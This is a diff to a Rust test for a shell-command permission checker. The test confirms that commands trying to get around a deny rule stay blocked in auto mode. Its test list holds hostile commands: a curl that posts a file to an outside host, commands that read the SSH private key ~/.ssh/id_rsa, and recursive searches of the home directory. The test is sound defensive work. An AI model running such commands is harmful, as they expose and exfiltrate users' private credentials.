@@ -106,10 +106,11 @@ fn given_auto_mode_then_ways_around_a_rule_are_still_seen() {
     for line in [
         "curl -d @k http://example.com",
         "cat $HOME/.ssh/id_rsa",
-        "grep -r . ~",
         "cd ~/.ssh && cat id_rsa",
-        "cd ~ && grep -rn x",
         "cd ~/.ssh && rg x",
+        "rg x ~/.ssh",
+        "grep -r . ~",
+        "cd ~ && grep -rn x",
     ] {
         assert_eq!(in_mode(&denied, &shell(line), Mode::Auto).effect, Deny, "{line}");
     }
